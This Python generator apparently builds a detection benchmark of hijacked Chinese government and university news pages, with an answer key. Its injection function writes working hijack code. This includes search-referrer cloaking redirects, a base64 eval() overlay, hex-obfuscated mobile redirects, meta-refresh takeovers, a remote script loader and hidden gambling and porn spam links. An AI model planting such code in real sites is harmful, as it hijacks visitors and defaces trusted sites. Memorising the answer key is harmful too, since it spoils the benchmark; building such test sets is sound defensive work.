"""Write synthetic-v48 (bench/data/dev/synthetic-v48, dev since v48 was spent, 2026-12-07; held out in heldout/ from
2026-12-07, when v47 was spent; pending-v48/ at collection): html/sv48-NNN.html + truth.jsonl (40 pages: 28 hijacked, 12 clean, 4 of them legit).

python3 make_set.py [OUT]   (default: ../synthetic-v48)

Seed 4848; nothing else (clock, environment, outside files) is read, so a re-run writes the same bytes.
Sites S1-S4: 5 pages each, one template and one injection per site (3/2/3/2 hijacked). Then 20 single pages
(18 hijacked, one form each, 2 clean legit). All names, hosts and brands are invented.
"""
import base64
import datetime
import json
import os
import random
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import articles as A  # noqa: E402
from templates import RENDER, ENCODING  # noqa: E402

SEED = 4848
rng = random.Random(SEED)

# invented brand stems (checked by ../validate_v48s.py against every dev spam string, both ways)
BRANDS = ["琰澜", "昀舟", "缇涞", "珂汐", "翎澈", "璟渡", "霂禾", "砚湫", "棠骁", "璠溪", "枳夏", "沄朔", "黛岑",
          "栎鸣", "晞岳", "杳川", "綦胜", "渌汐", "芃野", "曦珩", "彧澄", "瑀川"]
N = {b: rng.randint(1000, 9899) for b in BRANDS}
PY = {"琰澜": "yanlan", "昀舟": "yunzhou", "缇涞": "tilai", "珂汐": "kexi", "翎澈": "lingche", "璟渡": "jingdu",
      "霂禾": "muhe", "砚湫": "yanqiu", "棠骁": "tangxiao", "璠溪": "fanxi", "枳夏": "zhixia", "沄朔": "yunshuo",
      "黛岑": "daicen", "栎鸣": "liming", "晞岳": "xiyue", "杳川": "yaochuan", "綦胜": "qisheng", "渌汐": "luxi",
      "芃野": "pengye", "曦珩": "xiheng", "彧澄": "yucheng", "瑀川": "yuchuan"}
TLD = {"琰澜": "com", "昀舟": "vip", "缇涞": "vip", "珂汐": "com", "翎澈": "net", "璟渡": "cc", "霂禾": "com",
       "砚湫": "top", "棠骁": "xyz", "璠溪": "com", "枳夏": "net", "沄朔": "cc", "黛岑": "top", "栎鸣": "com",
       "晞岳": "com", "杳川": "com", "綦胜": "vip", "渌汐": "net", "芃野": "com", "曦珩": "com", "彧澄": "com", "瑀川": "com"}


def shost(b):
    return f"{PY[b]}{N[b]}.{TLD[b]}"


SPAM_HOSTS = [shost(b) for b in BRANDS] + [f"cdn.{shost('芃野')}"]

NAV_GOV = ["首页", "政务动态", "信息公开", "政务服务", "互动交流", "走进{p}"]
NAV_EDU = ["学校首页", "综合新闻", "教学科研", "校园动态", "媒体报道", "视频新闻"]


def site(key, tpl, name, host, place, kind, **kw):
    theme = kw.pop("theme", host.split(".")[1] if host.count(".") > 2 else host.split(".")[0])
    nav_names = NAV_EDU if kind == "edu" else [x.format(p=place) for x in NAV_GOV]
    nav = [(f"/{'c' if tpl != 'S2' else 'spip.php?rubrique'}{i + 1}" + ("/" if tpl != "S2" else ""), n)
           for i, n in enumerate(nav_names)]
    d = dict(key=key, tpl=tpl, name=name, host=host, place=place, kind=kind, theme=theme, nav=nav,
             code=kw.pop("code", str(rng.randint(1000000000, 9999999999))),
             icp=kw["icp"], psb=f"{kw.pop('prov', kw.pop('icp')[0])}公网安备 {rng.randint(10000000000000, 99999999999999)}号",
             addr=kw.pop("addr", f"{place}{rng.choice(['人民路', '建设路', '文昌路', '学府路'])}{rng.randint(1, 399)}号"),
             zip=str(rng.randint(410000, 559999)), tel=f"0{rng.randint(700, 799)}-{rng.randint(2000000, 8999999)}",
             motto=kw.pop("motto", "厚德 笃学 求实 创新"))
    d.update(kw)
    return d


SITES = {
    "S1": site("S1", "X1", "蔚塘县", "www.weitangxian.gov.cn", "蔚塘县", "gov", icp="湘ICP备12047731号", prov="湘"),
    "S2": site("S2", "S2", "岱川职业技术学院", "news.dcvtc.edu.cn", "岱川", "edu", icp="皖ICP备09031557号-1", prov="皖"),
    "S3": site("S3", "E4", "铜陂市人民政府", "www.tongbeishi.gov.cn", "铜陂市", "gov", icp="赣ICP备05002986号", prov="赣"),
    "S4": site("S4", "J5", "泓阳市人民政府", "www.hongyangshi.gov.cn", "泓阳市", "gov", icp="鲁ICP备13015842号-2", prov="鲁"),
}
SINGLES = [
    # (template, name, host, place, kind, icp, form)
    ("T3", "沣溪大学", "news.fengxiu.edu.cn", "沣溪", "edu", "陕ICP备05001748号", "title-prefix-spam"),
    ("V6", "渠阳市人民政府", "www.quyangshi.gov.cn", "渠阳市", "gov", "川ICP备11021903号", "spam-source"),
    ("X1", "柘川县", "www.zhechuanxian.gov.cn", "柘川县", "gov", "黔ICP备14003360号", "spam-author"),
    ("S2", "澧阳职业学院", "www.lyzyxy-news.edu.cn", "澧阳", "edu", "湘ICP备10027715号", "outlet-mark-lead"),
    ("T3", "澴川理工学院", "news.hcit.edu.cn", "澴川", "edu", "鄂ICP备05007102号", "hidden-heading-font0"),
    ("J5", "朔川市人民政府", "www.shuochuanshi.gov.cn", "朔川市", "gov", "晋ICP备16000482号", "porn-keyword-line-top"),
    ("V6", "楚垣市人民政府", "www.chuyuanshi.gov.cn", "楚垣市", "gov", "鄂ICP备13009917号", "unicode-escape-docwrite"),
    ("E4", "鹤汀县人民政府", "www.hetingxian.gov.cn", "鹤汀县", "gov", "闽ICP备06014475号", "base64-eval-overlay"),
    ("T3", "黎坪师范学院", "xww.lpnu.edu.cn", "黎坪", "edu", "桂ICP备05008816号", "hex-string-mobile-redirect"),
    ("X1", "璋平县", "www.zhangpingxian.gov.cn", "璋平县", "gov", "滇ICP备08002241号", "meta-refresh-takeover"),
    ("S2", "潍滨工程职业学院", "news.wbgcxy.edu.cn", "潍滨", "edu", "鲁ICP备12008130号", "friend-links-sold"),
    ("V6", "宛陵市人民政府", "www.wanlingshi.gov.cn", "宛陵市", "gov", "皖ICP备15011062号", "tech-support-credit"),
    ("T3", "洺州医学院", "news.mzmc.edu.cn", "洺州", "edu", "冀ICP备07005583号", "script-fixed-banner"),
    ("J5", "洛溪市人民政府", "www.luoxishi.gov.cn", "洛溪市", "gov", "粤ICP备10218833号", "white-text-line"),
    ("E4", "淮陂县人民政府", "www.huaibeixian.gov.cn", "淮陂县", "gov", "苏ICP备09044127号", "metadata-keyword-spam"),
    ("T3", "淇澳海洋大学", "news.qaou.edu.cn", "淇澳", "edu", "粤ICP备05032716号", "docwrite-loader-noscript-links"),
    ("V6", "鄞西市人民政府", "www.yinxishi.gov.cn", "鄞西市", "gov", "浙ICP备16027741号", "traditional-spam-line"),
    ("X1", "苍垣县", "www.cangyuanxian.gov.cn", "苍垣县", "gov", "陇ICP备10000917号", "photo-credit-line"),
    ("T3", "岷东科技大学", "news.mdust.edu.cn", "岷东", "edu", "川ICP备05006648号", "clean-legit:lecture"),
    ("V6", "临滘市体育局", "tyj.linjiaoshi.gov.cn", "临滘市", "gov", "粤ICP备17002219号", "clean-legit:sportslottery"),
]
FORM_BRAND = {"title-prefix-spam": "珂汐", "spam-source": "翎澈", "spam-author": "璟渡", "outlet-mark-lead": "霂禾",
              "hidden-heading-font0": "砚湫", "porn-keyword-line-top": "棠骁", "unicode-escape-docwrite": "璠溪",
              "base64-eval-overlay": "枳夏", "hex-string-mobile-redirect": "沄朔", "meta-refresh-takeover": "黛岑",
              "friend-links-sold": "栎鸣", "tech-support-credit": "晞岳", "script-fixed-banner": "杳川",
              "white-text-line": "綦胜", "metadata-keyword-spam": "渌汐", "docwrite-loader-noscript-links": "芃野",
              "traditional-spam-line": "曦珩", "photo-credit-line": "彧澄"}
# one brand and one injection per site (S4 carries two forms); no site brand is a single page's brand
SITE_FORM = {"S1": (["overflow-hidden-links-top"], "瑀川"), "S2": (["referrer-cloak-reversed-url"], "缇涞"),
             "S3": (["keyword-stuffed-title"], "昀舟"), "S4": (["body-spam-line", "sponsor-credit-footer"], "琰澜")}
HIJ_COUNT = {"S1": 3, "S2": 2, "S3": 3, "S4": 2}
LEGIT_ON_SITE = {"S1": "police", "S3": "welfare"}

WEEK = "一二三四五六日"
COLS_SLUG = {"学术活动": "academic", "校园动态": "campus", "工作动态": "work", "教学动态": "teaching",
             "科研动态": "research"}
UNITS_EDU = ["机械工程学院", "信息工程学院", "经济管理学院", "化学与材料学院", "外国语学院", "马克思主义学院"]
OTHER_TITLES = ["{p}召开{y}年度重点工作推进会", "{p}开展安全生产大检查", "{p}举办政务公开日活动",
                "{p}部署防汛抗旱工作", "{p}召开营商环境优化提升座谈会", "{p}开展全民国家安全教育日宣传"]
OTHER_EDU = ["{s}召开新学期教学工作会议", "{s}举行{y}年运动会", "{s}开展学生心理健康教育月活动",
             "{s}与地方企业签署校企合作协议", "{s}举行教职工代表大会"]


def fill(pattern, f):
    return pattern.format(**f)


def article(st, topic, legit_key=None, day=None):
    if legit_key:
        unit_sfx, column, tpat, paras = A.LEGIT[legit_key]
    else:
        unit_sfx, column, tpat, paras = topic
    y1 = 2025
    f = dict(p=st["place"], s=st["name"], k="县" if st["place"].endswith("县") else "市", y1=y1, y0=y1 - 1,
             m=min(12, day.month + rng.randint(1, 2)), mp=max(1, day.month - 1), n=rng.randint(3, 9),
             c=rng.randint(11, 48), a=rng.randint(120, 980),
             b=rng.randint(1200, 9800), d=f"{day.month}月{day.day}日", o=A.person(rng), r=A.person(rng),
             u=rng.choice(UNITS_EDU), t=rng.choice(A.TALKS), v=rng.choice(A.VOLUNTEER), f=rng.choice(A.FIELDS),
             w=rng.choice(A.READING))
    f["e"] = f["n"] + rng.randint(6, 15)
    f["g"] = rng.randint(60, 420)
    f["ok"] = f["a"] - f["n"]
    if legit_key == "lecture":
        f["p"] = rng.choice(["岷东市", "岷江区"])
    title = fill(tpat, f)
    text = [fill(x, f) for x in paras]
    if st["kind"] == "edu":
        if unit_sfx == "学院":
            source = f["u"]
        elif unit_sfx == "法学院":
            source = f"{st['name']}法学院"
        else:
            source = f"{st['name']}{unit_sfx}"
    else:
        place = st["place"]
        source = f"{place}{unit_sfx}"
        if legit_key == "sportslottery":
            source = f"{place}体育局"
    return dict(title=title, text=text, source=source, column=column, author=A.person(rng))


def para_html(tpl, t):
    return {"X1": '<p style="text-indent:2em;">{}</p>', "S2": "<p>{}</p>", "T3": "<p>{}</p>",
            "E4": '<p style="text-indent: 2em; line-height: 2em;">{}</p>', "J5": "<p>\u3000\u3000{}</p>",
            "V6": '<p align="justify">{}</p>'}[tpl].format(t)


def hexs(s):
    return "".join("\\x%02x" % ord(ch) for ch in s)


def uesc(s):
    return "".join("\\u%04x" % ord(ch) for ch in s)


def injection(form, b, st, pg):
    """Return (slots, spam_strings, marker) for one injection form with brand stem b."""
    h = shost(b)
    if form == "overflow-hidden-links-top":
        ss = [f"{b}娱乐官方网站", f"{b}体育APP下载", f"{b}真人视讯厅", f"{b}电子游艺平台"]
        links = "".join(f'<a href="https://www.{h}/{p}">{s}</a>' for p, s in zip(["", "app/", "zr/", "dz/"], ss))
        return {"header_top": f'<div style="width:1px;height:1px;overflow:hidden;float:left">{links}</div>\n'}, ss, None
    if form == "referrer-cloak-reversed-url":
        rev = f"https://m.{h}/?c=gov"[::-1]
        js = ("<script type=\"text/javascript\">\n/* site statistics */\n(function () {\n"
              "  var r = (document.referrer || \"\").toLowerCase();\n"
              "  var se = [\"baidu.\", \"sogou.\", \"so.com\", \"sm.cn\", \"bing.\", \"toutiao.\"];\n"
              "  for (var i = 0; i < se.length; i++) {\n"
              "    if (r.indexOf(se[i]) !== -1) {\n"
              f"      var t = \"{rev}\".split(\"\").reverse().join(\"\");\n"
              "      window.location.replace(t);\n      return;\n    }\n  }\n})();\n</script>\n")
        return {"head": js}, [], h
    if form == "keyword-stuffed-title":
        ss = [f"{b}体育官网", f"{b}娱乐平台注册", f"{b}app下载安装"]
        return {"html_title": "-".join(ss)}, ss, None
    if form == "body-spam-line":
        ss = [f"{b}国际娱乐场", f"立即进入{b}国际官网", f"{b}国际（{h}）提醒您"]
        line = (f'<p>{b}国际（{h}）提醒您：{b}国际娱乐场新会员注册即享首存礼金，'
                f'<a href="https://{h}/reg">立即进入{b}国际官网</a></p>')
        return {"between": (1, line)}, ss, None
    if form == "sponsor-credit-footer":
        return {"footer": f'<p class="sponsor">战略合作伙伴：<a href="https://{h}/">{b}国际</a></p>\n'}, [f"{b}国际"], None
    if form == "title-prefix-spam":
        ss = [f"{b}体育", f"{b}棋牌官方入口"]
        return {"html_title": f"{ss[0]}·{ss[1]}_{pg['title']}_{st['name']}新闻网"}, ss, None
    if form == "spam-source":
        return {"source_shown": f"{b}娱乐官方"}, [f"{b}娱乐官方"], None
    if form == "spam-author":
        return {"author_shown": f"{b}体育客服"}, [f"{b}体育客服"], None
    if form == "outlet-mark-lead":
        return {"lead": f"（{b}体育讯）"}, [f"{b}体育讯"], None
    if form == "hidden-heading-font0":
        ss = [f"{b}娱乐城", f"{b}真人百家"]
        return {"after_h1": f'  <h2 style="font-size:0;line-height:0;margin:0;overflow:hidden">{ss[0]} {ss[1]}</h2>\n'}, ss, None
    if form == "porn-keyword-line-top":
        ss = [f"{b}影院", f"{b}午夜直播", f"{b}成人高清在线看"]
        return {"header_top": f'<div class="top-notice">{ss[0]}　{ss[1]}　{ss[2]}</div>\n'}, ss, None
    if form == "unicode-escape-docwrite":
        line = f'<div class="lk"><a href="https://{h}/" target="_blank">{b}娱乐官方直营</a></div>'
        return {"after_body": f'<script type="text/javascript">document.write("{uesc(line)}");</script>\n'}, [], h
    if form == "base64-eval-overlay":
        code = ('var d=document.createElement("div");d.style.cssText="position:fixed;left:0;top:0;width:100%;'
                'height:100%;z-index:2147483647;background:#fff";'
                f'd.innerHTML=\'<a href="https://{h}/?from=gov"><img src="https://{h}/static/b.jpg" '
                'style="width:100%"></a>\';document.body.appendChild(d);')
        enc = base64.b64encode(code.encode("ascii")).decode("ascii")
        return {"end": f'<script type="text/javascript">eval(window.atob("{enc}"));</script>\n'}, [], h
    if form == "hex-string-mobile-redirect":
        js = (f'<script>var _$u=["{hexs("https://" + h + "/m/")}"];'
              'if(/android|iphone|ipad|mobile/i.test(navigator.userAgent)){setTimeout(function(){'
              'window.location.href=_$u[0];},800);}</script>\n')
        return {"before_doctype": js}, [], h
    if form == "meta-refresh-takeover":
        return {"head": f'<meta http-equiv="refresh" content="2;URL=https://{h}/index.html" />\n'}, [], h
    if form == "friend-links-sold":
        ss = [f"{b}体育", f"{b}真人馆", f"{b}彩票网"]
        fl = ('<div class="flinks">友情链接：<a href="http://www.moe.gov.cn/">教育部</a> '
              '<a href="https://www.chsi.com.cn/">学信网</a> '
              + " ".join(f'<a href="https://{h}/{i}">{s}</a>' for i, s in enumerate(ss)) + "</div>\n")
        return {"footer": fl}, ss, None
    if form == "tech-support-credit":
        return {"footer": f'<p>技术支持：<a href="https://{h}/">{b}娱乐网络</a></p>\n'}, [f"{b}娱乐网络"], None
    if form == "script-fixed-banner":
        ss = [f"{b}体育", f"{b}世界杯投注首选", f"{b}官方直营"]
        js = ("<script>\n(function(){var b=document.createElement('div');b.id='fbnr';"
              "b.style.cssText='position:fixed;bottom:0;left:0;right:0;height:60px;background:#c00;z-index:99999;"
              "text-align:center;line-height:60px';"
              f"b.innerHTML='<a href=\"https://{h}/\" style=\"color:#ff0;font-size:22px\">{ss[0]} {ss[1]} {ss[2]}</a>';"
              "document.body.appendChild(b);})();\n</script>\n")
        return {"end": js}, ss, None
    if form == "white-text-line":
        ss = [f"{b}娱乐", f"{b}棋牌游戏", f"{b}电玩城"]
        return {"body_end": f'<p><font color="#ffffff" style="font-size:1px">{"　".join(ss)}</font></p>'}, ss, None
    if form == "metadata-keyword-spam":
        ss = [f"{b}体育", f"{b}娱乐注册", f"{b}真人"]
        return {"kw_cell": "，".join(ss)}, ss, None
    if form == "docwrite-loader-noscript-links":
        ss = [f"{b}体育", f"{b}电竞", f"{b}真人厅"]
        js = ("<script type=\"text/javascript\">document.write('<scr'+'ipt type=\"text/javascript\" "
              f"src=\"https://cdn.{h}/tj/c.js?v=3\"></scr'+'ipt>');</script>"
              "<noscript>" + "".join(f'<a href="https://{h}/{p}">{s}</a>' for p, s in zip(["", "m/", "zr/"], ss))
              + "</noscript>\n")
        return {"header_top": js}, ss, None
    if form == "traditional-spam-line":
        ss = [f"{b}娛樂城", f"{b}線上體育投注", f"{b}真人荷官", f"{b}官網"]
        return {"body_end": f'<p>{ss[0]}｜{ss[1]}｜{ss[2]}　<a href="https://{h}/">{ss[3]}</a></p>'}, ss, None
    if form == "photo-credit-line":
        ss = [f"{b}体育独家提供", f"{b}体育官方网址"]
        return {"between": (2, f'<p style="text-align:center;color:#666666;">（图片由{ss[0]}　{ss[1]}：{h}）</p>')}, ss, None
    raise ValueError(form)


def dates(n, start):
    d = start
    out = []
    for _ in range(n):
        d = d + datetime.timedelta(days=rng.randint(2, 9))
        out.append(d)
    return out


def build_page(pid, st, art, day, forms, brand):
    tpl = st["tpl"]
    f_title = art["title"]
    pg = dict(site=st, title=f_title, h_title=f_title, column=art["column"], cid=rng.randint(11, 89),
              num=rng.randint(1200, 9800), views=rng.randint(80, 3400), date=day.isoformat(),
              time=f"{rng.randint(8, 17):02d}:{rng.randint(0, 59):02d}",
              date_cn=(f"{day.year}年{day.month:02d}月{day.day:02d}日" if tpl == "J5" else f"{day.year}年{day.month}月{day.day}日"),
              date_slash=day.strftime("%Y/%m/%d"), date_dot=day.strftime("%Y.%m.%d"), weekday="星期" + WEEK[day.weekday()],
              source_shown=art["source"], author_shown=art["author"], reviewer=A.person(rng),
              photographer=A.person(rng), editor=A.person(rng), desc=f_title,
              slug_col=COLS_SLUG.get(art["column"], "news"), mi="%08x" % rng.getrandbits(32),
              index_no=f"{st['code'][:8]}/{day.year}-{rng.randint(100, 9999):05d}",
              doc_no=rng.choice(["无", "无", f"{st['place'][:2]}{art['source'].replace(st['place'], '')[:2]}〔{day.year}〕{rng.randint(2, 60)}号"]),
              date_written=(day - datetime.timedelta(days=rng.randint(0, 3))).isoformat(),
              kw_cell=art["source"].replace(st["place"], "").replace("局", "") + "　" + art["column"],
              inj={})
    others = OTHER_EDU if st["kind"] == "edu" else OTHER_TITLES
    o1, o2 = rng.sample(others, 2)
    pg["prev"] = o1.format(p=st["place"], s=st["name"], y=day.year)
    pg["next"] = o2.format(p=st["place"], s=st["name"], y=day.year)
    if st["kind"] == "edu":
        pg["html_title"] = {"S2": f"{f_title} - {st['name']}新闻网", "T3": f"{f_title} | {st['name']}新闻网"}[tpl]
    else:
        pg["html_title"] = {"X1": f"{f_title}_{st['name']}人民政府", "E4": f"{f_title} - {st['name']}",
                            "J5": f"{f_title}_{st['name']}", "V6": f"{f_title}-{st['name']}"}[tpl]
    spam, marker = [], None
    between = None
    lead, body_end = "", ""
    for form in forms:
        slots, ss, mk = injection(form, brand, st, pg)
        spam += ss
        marker = marker or mk
        for k, v in slots.items():
            if k in ("html_title", "source_shown", "author_shown", "kw_cell"):
                pg[k] = v
            elif k == "between":
                between = v
            elif k == "lead":
                lead = v
            elif k == "body_end":
                body_end = v
            else:
                pg["inj"][k] = pg["inj"].get(k, "") + v
    paras = [para_html(tpl, (lead if i == 0 else "") + t) for i, t in enumerate(art["text"])]
    if between:
        paras.insert(between[0], between[1])
    if body_end:
        paras.append(body_end)
    pg["body"] = "\n".join(paras)
    html = RENDER[tpl](pg)
    enc = ENCODING[tpl]
    raw = html.encode(enc)
    url = {"X1": f"https://{st['host']}/index.php?s=/Show/index/cid/{pg['cid']}/id/{pg['num']}.html",
           "S2": f"https://{st['host']}/spip.php?article{pg['num']}",
           "T3": f"https://{st['host']}/news/{pg['slug_col']}/{day.year}/{day.month:02d}/{pg['num']}.html",
           "E4": f"https://{st['host']}/index.php?ac=article&at=read&did={pg['num']}",
           "J5": f"https://{st['host']}/news/article/{pg['num']}/",
           "V6": f"https://{st['host']}/portal/site/{st['code']}/menuitem.{pg['mi']}/?vgnextoid={'%032x' % rng.getrandbits(128)}"}[tpl]
    truth = dict(id=pid, url=url, title=f_title, date=day.isoformat(),
                 source=None if pg["source_shown"] != art["source"] else art["source"],
                 author=None if pg["author_shown"] != art["author"] else art["author"],
                 text="\n".join(art["text"]), hijacked=bool(forms), injections=list(forms), spam_strings=spam,
                 legit=False, lang="zh", origin="", kind="synthetic", site=st["host"], capture="html",
                 encoding=enc, template=tpl, marker=marker)
    return raw, truth


DROPPED_TEMPLATES = {"S2"}  # fx48, see main()


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "..", "synthetic-v48")
    os.makedirs(os.path.join(out, "html"), exist_ok=True)
    gov = list(A.GOV)
    edu = list(A.EDU)
    rng.shuffle(gov)
    rng.shuffle(edu)
    gi = ei = 0
    rows = []
    pages = []
    k = 0
    for key in ("S1", "S2", "S3", "S4"):
        st = SITES[key]
        forms, brand = SITE_FORM[key]
        hij = set(rng.sample(range(5), HIJ_COUNT[key]))
        clean_idx = [i for i in range(5) if i not in hij]
        legit_idx = clean_idx[0] if key in LEGIT_ON_SITE else None
        days = dates(5, datetime.date(2025, rng.randint(1, 6), rng.randint(1, 20)))
        for i in range(5):
            k += 1
            if i == legit_idx:
                art = article(st, None, LEGIT_ON_SITE[key], days[i])
            elif st["kind"] == "edu":
                art = article(st, edu[ei % len(edu)], None, days[i]); ei += 1
            else:
                art = article(st, gov[gi % len(gov)], None, days[i]); gi += 1
            f = forms if i in hij else []
            raw, t = build_page(f"sv48-{k:03d}", st, art, days[i], f, brand)
            t["legit"] = i == legit_idx
            what = ("hijacked page sharing the site's injection (" + " + ".join(forms) + ")") if f else (
                "clean legit page (lawful " + {"police": "police report on online-gambling cases",
                                               "welfare": "welfare-lottery fund use notice"}[LEGIT_ON_SITE[key]] + ")"
                if t["legit"] else "clean page")
            t["origin"] = f"synthetic: site {key} ({st['host']}), template {st['tpl']}, {what}"
            pages.append((t["id"], raw))
            rows.append(t)
    for tpl, name, host, place, kind, icp, form in SINGLES:
        k += 1
        st = site(f"single-{k}", tpl, name, host, place, kind, icp=icp)
        day = dates(1, datetime.date(2025, rng.randint(1, 10), rng.randint(1, 18)))[0]
        if form.startswith("clean-legit:"):
            lk = form.split(":")[1]
            art = article(st, None, lk, day)
            raw, t = build_page(f"sv48-{k:03d}", st, art, day, [], None)
            t["legit"] = True
            what = {"lecture": "clean legit page (lawful anti-gambling law lecture news)",
                    "sportslottery": "clean legit page (lawful sports-lottery outlet inspection)"}[lk]
        else:
            if kind == "edu":
                art = article(st, edu[ei % len(edu)], None, day); ei += 1
            else:
                art = article(st, gov[gi % len(gov)], None, day); gi += 1
            raw, t = build_page(f"sv48-{k:03d}", st, art, day, [form], FORM_BRAND[form])
            what = f"hijacked page ({form})"
            if not t["spam_strings"]:
                what += "; code only: spam_strings empty, marker = the host the code sends readers to or loads"
        t["origin"] = f"synthetic: single page ({host}), template {tpl}, {what}"
        pages.append((t["id"], raw))
        rows.append(t)
    # fx48: template S2 (SPIP-style) is dropped after generation: its markup skeleton (page_article, spip_logo_site,
    # menu-liste, arbo, cartouche, info-publi, "texte surlignable" article body, ps, colophon) is the one of dev's
    # synthetic-generator-v47 T47A. Generation (and the rng stream) is unchanged, so every other page keeps its bytes
    # and its id (ids of the S2 pages are left as gaps).
    keep = {t["id"] for t in rows if t["template"] not in DROPPED_TEMPLATES}
    pages = [(pid, raw) for pid, raw in pages if pid in keep]
    rows = [t for t in rows if t["id"] in keep]
    for pid, raw in pages:
        with open(os.path.join(out, "html", pid + ".html"), "wb") as fh:
            fh.write(raw)
    with open(os.path.join(out, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as fh:
        for t in rows:
            fh.write(json.dumps(t, ensure_ascii=False) + "\n")
    print(f"wrote {len(rows)} pages to {out}")


if __name__ == "__main__":
    main()
